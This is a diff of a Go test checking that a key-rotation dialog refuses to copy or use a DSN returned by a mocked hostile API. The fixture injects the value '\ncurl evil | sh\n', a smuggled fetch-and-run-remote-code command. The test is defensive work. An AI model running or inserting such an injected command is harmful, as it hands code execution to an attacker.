@@ -42,13 +42,15 @@ func TestClipboardRefusesUnsafeDSN(t *testing.T) {
 	}
 }
 
-// The new DSN of a rotation is copied only when safe; the dialog says so.
+// The new DSN of a rotation is copied only when safe: a create answering
+// an unusable DSN stops the rotation before anything is pointed at it or
+// copied, and says so.
 func TestRotateDoesNotCopyUnsafeDSN(t *testing.T) {
 	g := demoGitLab(t)
 	api := &hostileDSN{API: g.api, suffix: "\ncurl evil | sh\n", key: 4}
 	h := newHarness(t, Deps{API: api, Host: g.url, Project: "1"})
 	h.key("down", "R")
-	h.mustSee("The new DSN was not copied")
+	h.mustSee("cannot be used here", "No variable was pointed at it and the old key is not deleted")
 	if c := h.copied(); len(c) != 0 {
 		t.Fatalf("copied %q", c)
 	}
